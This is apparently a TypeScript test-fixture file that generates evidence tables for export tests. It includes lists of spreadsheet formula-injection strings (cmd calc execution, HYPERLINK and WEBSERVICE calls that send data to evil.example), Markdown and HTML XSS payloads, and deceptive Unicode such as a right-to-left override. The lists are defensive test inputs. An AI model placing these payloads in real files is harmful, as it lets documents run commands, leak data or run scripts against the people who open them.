// Tables of evidence for tests of exports: with given texts, and random ones.
import fc from 'fast-check';
import type { QuoteEntry } from '@/lib/domain/codebook-view';
import type {
  EvidenceCell,
  EvidenceColumn,
  EvidenceRow,
  EvidenceTable,
} from '@/lib/domain/evidence/evidence-table';
import type { EvidenceDocument } from '@/lib/formats/evidence-document';

/** Gives a quote of a PDF. */
export function quoteWith(changes: Partial<QuoteEntry> = {}): QuoteEntry {
  return {
    ...{ fragmentId: 'f', codingId: 'k', sourceId: 's', text: 'words', citation: 'Brandt, 2021' },
    ...{ page: '7', url: null, polarity: null, absence: false, times: 1 },
    ...changes,
  };
}

/** Gives a column. */
export function columnWith(key: string, changes: Partial<EvidenceColumn> = {}): EvidenceColumn {
  return { key, label: key, group: null, kind: 'text', width: 1, ...changes };
}

/** Gives a row. */
export function rowWith(
  key: string,
  cells: readonly EvidenceCell[],
  changes: Partial<EvidenceRow> = {},
): EvidenceRow {
  return { key, depth: 0, role: 'plain', cells, ...changes };
}

/** Gives a cell of text. */
export function textCell(text: string): EvidenceCell {
  return { kind: 'text', text };
}

/** Gives a cell of a number. */
export function numberCell(value: number | null): EvidenceCell {
  return { kind: 'number', value, opens: false };
}

/** Gives a table with a row for each text: the text as a cell, as a line, as a quote, and a number behind it. */
export function tableOfTexts(texts: readonly string[]): EvidenceTable {
  return {
    ...{ title: 'Texts', notes: ['A note.'] },
    columns: [
      columnWith('text', { kind: 'label', label: 'Text' }),
      columnWith('line', { kind: 'lines', label: 'Line' }),
      columnWith('quote', { kind: 'lines', label: 'Quote' }),
      columnWith('count', { kind: 'number', label: 'Count' }),
    ],
    rows: texts.map((text, at) =>
      rowWith(`row${at}`, [
        textCell(text),
        { kind: 'lines', lines: [{ text, quote: null }] },
        { kind: 'lines', lines: [{ text, quote: quoteWith({ text, fragmentId: `f${at}` }) }] },
        numberCell(at),
      ]),
    ),
  };
}

/** Gives a document of tables. */
export function documentOf(
  tables: readonly EvidenceTable[],
  changes: Partial<EvidenceDocument> = {},
): EvidenceDocument {
  return {
    ...{ tables, title: 'Tables', language: 'en', date: '2026-11-22', notes: [], footnoteOf: null },
    ...changes,
  };
}

/** Words with everything that a format may take for something else. */
export const anyText = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(
    '',
    '=1+1',
    '“quoted”, with; signs',
    'two\nlines',
    'a|b',
    '\\input{x}',
    '<b>',
    '👩‍👩‍👧',
    'שלום',
    'مرحبا',
  ),
);

const anyNumber = fc.oneof(
  fc.nat({ max: 5000 }).map((value): EvidenceCell => ({ kind: 'number', value, opens: true })),
  fc.constant<EvidenceCell>({ kind: 'number', value: null, opens: false }),
  fc
    .double({ min: 0, max: 1, noNaN: true })
    .map((value): EvidenceCell => ({ kind: 'number', value, as: 'percent', opens: false })),
  fc
    .double({ min: -100, max: 100, noNaN: true })
    .map((value): EvidenceCell => ({ kind: 'number', value, as: { decimals: 2 }, opens: false })),
);

const cellOf: Readonly<Record<EvidenceColumn['kind'], fc.Arbitrary<EvidenceCell>>> = {
  label: anyText.map(textCell),
  text: fc.oneof(
    anyText.map(textCell),
    fc.record({
      kind: fc.constant('text' as const),
      text: anyText,
      type: fc.constantFrom('structural' as const, 'interaction' as const, 'person' as const),
    }),
  ),
  number: anyNumber,
  lines: fc.array(fc.tuple(anyText, fc.boolean()), { maxLength: 3 }).map((lines): EvidenceCell => ({
    kind: 'lines',
    lines: lines.map(([text, isQuote]) => ({ text, quote: isQuote ? quoteWith({ text }) : null })),
  })),
};

/** Gives random tables: of every kind of column, with headings over several, of any number of rows. */
export const anyTable: fc.Arbitrary<EvidenceTable> = fc
  .array(
    fc.record({
      kind: fc.constantFrom('number' as const, 'text' as const, 'lines' as const),
      group: fc.constantFrom(null, 'Group', 'Other'),
      label: anyText,
      width: fc.integer({ min: 1, max: 6 }),
    }),
    { maxLength: 8 },
  )
  .chain((others) => {
    const columns = [
      columnWith('name', { kind: 'label' }),
      ...others.map((other, at) => columnWith(`column ${at}`, other)),
    ];
    const row = fc.record({
      depth: fc.nat({ max: 4 }),
      role: fc.constantFrom('plain' as const, 'heading' as const, 'total' as const),
      cells: fc.tuple(...columns.map(({ kind }) => cellOf[kind])),
    });
    return fc.record({
      title: anyText,
      notes: fc.array(anyText, { maxLength: 2 }),
      columns: fc.constant(columns),
      rows: fc
        .array(row, { maxLength: 12 })
        .map((rows) => rows.map((each, at) => ({ key: `row${at}`, ...each }))),
    });
  });

/** Sixty texts that a spreadsheet could run or fetch something by. */
export const formulas: readonly string[] = [
  ...['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00a0=', '\u200b=', '\ufeff=', '\uff1d', '\uff0b'].flatMap(
    (start) => [
      `${start}1+1`,
      `${start}SUM(A1:A9)`,
      `${start}cmd|'/c calc'!A1`,
      `${start}HYPERLINK("https://evil.example/?"&A1,"click")`,
      `${start}WEBSERVICE("https://evil.example")`,
    ],
  ),
];

/** What no control character, long text or writing direction may break. */
export const difficultTexts: readonly string[] = [
  'bell\u0007, null\u0000, escape\u001b, delete\u007f',
  'half \ud83d a pair \udc00',
  'not characters \ufffe \uffff',
  'line\u2028separator and\u2029paragraph, next\u0085line',
  'emoji 👩‍👩‍👧‍👦 🇳🇱 👍🏽',
  'Arabic مرحبا بالعالم and Hebrew שלום עולם',
  'turned \u202egnp.exe\u202c round',
  'combined e\u0301 and z\u0335\u0321a\u0322l\u0323g\u0324o\u0325',
  '中文字符與日本語とハングル한국어',
];

/** Forty texts that Markdown, its dialects or HTML in it could take for something else. */
export const markdownInjections: readonly string[] = [
  ...['| a | b |', '\\| a', 'a\\', '||', '`code`', '```js', '``a` b``', '[[link]]', '![[embed]]', '[[a|b]]'],
  ...[
    '[text](javascript:alert(1))',
    '![img](https://evil.example/x.png)',
    '[ref]: https://evil.example',
    '<script>alert(1)</script>',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<!-- comment',
    '<https://evil.example>',
    '&lt;b&gt;',
    '&#60;b&#62;',
    '*bold*',
  ],
  ...['**bold**', '_it_', '__b__', '~~gone~~', '# heading', '#tag', '> quote', '- item', '+ item', '1. item'],
  ...[
    '1) item',
    '---',
    '===',
    '==marked==',
    '%%hidden%%',
    '$$math$$',
    '$x$',
    '^block-id',
    '[^1]',
    '{{template}}',
  ],
];
